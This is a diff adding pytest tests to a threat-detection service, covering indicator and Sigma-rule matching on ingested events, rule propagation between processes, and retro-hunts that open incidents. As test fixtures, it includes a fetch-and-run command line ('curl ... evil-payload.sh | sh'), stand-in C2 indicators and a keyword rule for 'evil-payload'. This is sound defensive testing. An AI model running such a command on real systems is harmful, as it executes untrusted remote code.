@@ -7,14 +7,18 @@ import base64
 import os
 import re
 import stat
+import time
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
 import sqlalchemy
 
+from api.events.sqlite_store import SQLiteEventStore
 from detection.bundle import BundleSignatureError, verify_bundle
 from tests.api.conftest import Service
 from tests.api.test_agents import enrolled, new_token
+from tests.api.test_ingest import post
 from tests.api.test_service import BORDEAUX, CORTE, PITIE, setup_world
 
 SIGMA_RULE = """title: Payload fetched from the campaign's server
@@ -423,3 +427,241 @@ def test_stix_export_is_a_valid_stix_21_bundle(service: Service) -> None:
     with service.client(tokens["analyst"]) as client:
         again = client.get(f"/alerts/{alert['id']}/stix").json()
     assert [o["id"] for o in again["objects"]] == [o["id"] for o in objects]
+
+
+# Indicators and rules on arriving events --------------------------------------------------------
+
+
+def _ago(days: float) -> str:
+    return (datetime.now(UTC) - timedelta(days=days)).isoformat().replace("+00:00", "Z")
+
+
+def _events(days: float, tag: str) -> list[dict[str, Any]]:
+    """One event per way of meeting the alert, one that meets nothing."""
+    ts = _ago(days)
+    return [
+        {
+            "@timestamp": ts,
+            "source": {"ip": "10.1.2.3"},
+            "destination": {"ip": C2_IP},
+            "event": {"category": ["network"]},
+            "labels": {"tag": tag},
+        },
+        {
+            "@timestamp": ts,
+            "dns": {"question": {"name": f"cdn.{C2_DOMAIN}"}},
+            "labels": {"tag": tag},
+        },
+        {
+            "@timestamp": ts,
+            "process": {"command_line": "sh -c 'curl -s x/evil-payload.sh | sh'"},
+            "labels": {"tag": tag},
+        },
+        {"@timestamp": ts, "file": {"hash": {"sha256": SHA256}}, "labels": {"tag": tag}},
+        {
+            "@timestamp": ts,
+            "dns": {"question": {"name": "notevil-domain.example"}},
+            "destination": {"ip": "203.0.113.67"},
+            "labels": {"tag": tag},
+        },
+    ]
+
+
+def _ingest(service: Service, key: str, batch_id: str, events: list[dict[str, Any]]) -> Any:
+    batch = {"batch_id": f"batch-{batch_id}", "events": events, "detections": []}
+    answer = post(service, key, batch)
+    assert answer.status_code == 200, answer.text
+    return answer.json()
+
+
+def test_arriving_events_meet_published_indicators_and_rules(service: Service) -> None:
+    tokens = world(service)
+    key = agent_of(service, tokens, PITIE)
+    before = _ingest(service, key, "before", _events(0, "before"))
+    assert before["server_detections"] == 0
+    alert = publish(service, tokens["analyst"])
+    after = _ingest(service, key, "after", _events(0, "after"))  # no wait: same process
+    assert after["server_detections"] == 4
+    store = SQLiteEventStore.in_data_dir(service.settings.data_dir)
+    try:
+        found = store.search_detections(establishment=PITIE, limit=50)
+    finally:
+        store.close()
+    indicator = [d for d in found if d["engine"] == "indicator"]
+    sigma = [d for d in found if d["rule_id"] == "5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]
+    assert len(indicator) == 3
+    assert {d["rule_id"] for d in indicator} == {f"indicator:{alert['id']}"}
+    assert {d["rule_title"] for d in indicator} == {alert["title"]}
+    assert {d["level"] for d in indicator} == {"high"}
+    assert {d["event"]["labels"]["tag"] for d in indicator + sigma} == {"after"}
+    matched = {
+        (m["type"], m["value"], m["field"]) for d in indicator for m in d["meta"]["indicators"]
+    }
+    assert matched == {
+        ("ip", C2_IP, "destination.ip"),
+        ("domain", C2_DOMAIN, "dns.question.name"),  # a subdomain of the indicator
+        ("sha256", SHA256, "file.hash.sha256"),
+    }
+    assert len(sigma) == 1
+    assert sigma[0]["event"]["process"]["command_line"].endswith("| sh'")
+
+    with service.client(tokens["analyst"]) as client:
+        assert client.post(f"/alerts/{alert['id']}/withdraw").status_code == 200
+    withdrawn = _ingest(service, key, "withdrawn", _events(0, "withdrawn"))
+    assert withdrawn["server_detections"] == 0
+
+
+def test_another_service_process_converges_on_the_published_version(service: Service) -> None:
+    """A second process on the same database sees a publication within a few seconds."""
+    from api.alerts.live import CHECK_EVERY, LiveRules
+    from api.db import make_engine, session_factory
+    from detection.event import Event
+
+    engine = make_engine(service.settings.database_url)
+    other = LiveRules(service.settings, session_factory(engine))
+    try:
+        assert other.engines()[1] is None
+        assert other.version == 0
+        tokens = world(service)
+        alert = publish(service, tokens["analyst"])
+        deadline = time.monotonic() + CHECK_EVERY + 5
+        while other.engines()[1] is None and time.monotonic() < deadline:
+            time.sleep(0.2)
+        assert other.version == alert["bundle_version"]
+        sigma, matcher = other.engines()
+        assert matcher is not None
+        assert sigma is not None
+        event = Event(datetime.now(UTC), {"destination": {"ip": C2_IP}}, source="t")
+        (hit,) = matcher.match([event])
+        assert hit["rule_id"] == f"indicator:{alert['id']}"
+        assert "5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11" in {r.id for r in sigma.ruleset.rules}
+    finally:
+        engine.dispose()
+
+
+def test_indicator_matcher_looks_up_fields_not_indicators() -> None:
+    from api.alerts.indicators import AlertIndicators, IndicatorMatcher
+    from detection.event import Event
+
+    many = [("ip", f"10.{n // 65536}.{n // 256 % 256}.{n % 256}") for n in range(50_000)]
+    matcher = IndicatorMatcher(
+        [
+            AlertIndicators("a1", "Many IPs", "low", tuple(many)),
+            AlertIndicators(
+                "a2",
+                "Campaign",
+                "critical",
+                (
+                    ("ip", "2001:db8::1"),
+                    ("domain", "evil.example"),
+                    ("md5", "0" * 32),
+                    ("url", "http://evil.example/x"),
+                ),
+            ),
+        ]
+    )
+    now = datetime.now(UTC)
+
+    def hits(fields: dict[str, Any]) -> set[tuple[str, str]]:
+        found = matcher.match([Event(now, fields, source="t")])
+        return {(d["rule_id"], d["level"]) for d in found}
+
+    assert hits({"related": {"ip": ["192.0.2.1", "10.0.1.44"]}}) == {("indicator:a1", "low")}
+    assert hits({"source": {"ip": "2001:DB8:0::1"}}) == {("indicator:a2", "critical")}
+    assert hits({"url": {"domain": "a.b.EVIL.example."}}) == {("indicator:a2", "critical")}
+    assert hits({"url": {"domain": "notevil.example"}}) == set()
+    assert hits({"url": {"original": "http://evil.example/x"}}) == {("indicator:a2", "critical")}
+    sysmon = {
+        "winlog": {
+            "channel": "Microsoft-Windows-Sysmon/Operational",
+            "event_id": 1,
+            "event_data": {"Hashes": f"SHA1={'1' * 40},MD5={'0' * 32}"},
+        }
+    }
+    assert hits(sysmon) == {("indicator:a2", "critical")}
+    assert hits({"destination": {"ip": "not an ip"}, "message": "10.0.0.1"}) == set()
+    # 50,000 indicators cost a lookup per field value, not a loop over them.
+    events = [
+        Event(now, {"destination": {"ip": f"192.0.2.{n % 250}"}}, source="t") for n in range(5_000)
+    ]
+    started = time.perf_counter()
+    assert matcher.match(events) == []
+    assert time.perf_counter() - started < 1.0
+
+
+# Retro-hunts ------------------------------------------------------------------------------------
+
+KEYWORD_RULE = """title: Keywords only
+id: 0e4c8f0a-7d1b-4a59-8c3e-2f6b9d1a0c77
+status: experimental
+logsource: {product: linux}
+detection:
+  keywords: ['evil-payload']
+  condition: keywords
+"""
+
+
+def _hunted(service: Service, bearer: str, alert_id: str) -> dict[str, Any]:
+    deadline = time.monotonic() + 30
+    with service.client(bearer) as client:
+        while True:
+            outcome = client.get(f"/alerts/{alert_id}/retro-hunt").json()
+            if outcome["status"] in ("done", "failed") or time.monotonic() > deadline:
+                return dict(outcome)
+            time.sleep(0.1)
+
+
+def test_publication_hunts_stored_events_and_opens_incidents(service: Service) -> None:
+    tokens = world(service)
+    _ingest(
+        service, agent_of(service, tokens, PITIE), "p-1", _events(1, "recent") + _events(40, "old")
+    )
+    _ingest(service, agent_of(service, tokens, BORDEAUX), "b-1", _events(2, "recent"))
+    body = alert_body(sigma_rules=[SIGMA_RULE, KEYWORD_RULE], retro_hunt_days=30)
+    with service.client(tokens["analyst"]) as client:
+        made = client.post("/alerts", json=body)
+    assert made.status_code == 201, made.text
+    alert = made.json()
+    assert alert["retro_hunt"]["status"] in ("pending", "running", "done")
+    outcome = _hunted(service, tokens["analyst"], alert["id"])
+    assert outcome["status"] == "done", outcome
+    assert outcome["days"] == 30
+    rules = {r["rule_id"]: r for r in outcome["rules"]}
+    assert rules["5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]["hits"] == 2
+    assert rules["5d1f0a52-3c1e-4b7a-9a57-0c9a3f7e2b11"]["error"] is None
+    # The SQLite store cannot hunt keywords: said for that rule, the others still ran.
+    assert "keywords" in rules["0e4c8f0a-7d1b-4a59-8c3e-2f6b9d1a0c77"]["error"]
+    (indicators,) = [r for r in outcome["rules"] if r["kind"] == "indicators"]
+    assert indicators["hits"] == 6  # 3 recent events in each establishment, none of 40 days ago
+    assert outcome["hits_by_establishment"] == {PITIE: 4, BORDEAUX: 4}
+    assert set(outcome["incidents"]) == {PITIE, BORDEAUX}
+    assert outcome["incidents_opened"] >= 2
+    with service.client(tokens["analyst"]) as client:
+        listed = client.get("/incidents", params={"limit": 500}).json()["items"]
+    opened = [i for i in listed if i["origin"] == "retro-hunt"]
+    assert {i["establishment"] for i in opened} == {PITIE, BORDEAUX}
+    assert {i["id"] for i in opened} == {x for ids in outcome["incidents"].values() for x in ids}
+    assert f"indicator:{alert['id']}" in {i["rule_id"] for i in opened}
+    with service.client(tokens["it_pitie"]) as client:
+        assert client.get(f"/alerts/{alert['id']}/retro-hunt").status_code == 403
+        theirs = client.get("/incidents", params={"limit": 500}).json()["items"]
+    assert {i["establishment"] for i in theirs} == {PITIE}
+
+    # Hunting again over a shorter window finds only what is in it.
+    with service.client(tokens["analyst"]) as client:
+        again = client.post(f"/alerts/{alert['id']}/retro-hunt", json={"days": 1})
+        assert again.status_code == 202, again.text
+        with service.client(tokens["inspector"]) as auditor:
+            assert auditor.post(f"/alerts/{alert['id']}/retro-hunt", json={}).status_code == 403
+    narrow = _hunted(service, tokens["analyst"], alert["id"])
+    assert narrow["status"] == "done", narrow
+    assert narrow["days"] == 1
+    assert narrow["hits_by_establishment"] == {}
+
+
+def test_no_hunt_when_asked_for_none(service: Service) -> None:
+    tokens = world(service)
+    alert = publish(service, tokens["analyst"], retro_hunt_days=0)
+    assert alert["retro_hunt"] is None
+    with service.client(tokens["analyst"]) as client:
+        assert client.get(f"/alerts/{alert['id']}/retro-hunt").json() == {"status": "none"}
